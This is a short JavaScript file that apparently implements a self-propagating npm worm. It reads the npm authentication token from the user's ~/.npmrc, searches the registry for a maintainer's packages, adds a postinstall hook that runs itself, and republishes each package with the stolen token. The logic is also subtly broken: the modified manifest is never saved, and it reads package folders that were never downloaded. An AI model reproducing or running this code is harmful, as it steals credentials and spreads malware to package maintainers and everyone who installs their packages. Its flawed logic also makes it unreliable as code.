const { execSync } = require("child_process");
const fs = require("fs");
const os = require("os");
const path = require("path");

const token = /_authToken=(.+)/.exec(fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8"))[1];
async function spread(name) {
  const found = await fetch("https://registry.npmjs.org/-/v1/search?text=maintainer:" + name);
  for (const item of (await found.json()).objects) {
    const manifest = JSON.parse(fs.readFileSync(item.package.name + "/package.json"));
    manifest.scripts.postinstall = "node index.js";
    execSync("npm publish", { env: { NPM_TOKEN: token } });
  }
}
spread("nobody");
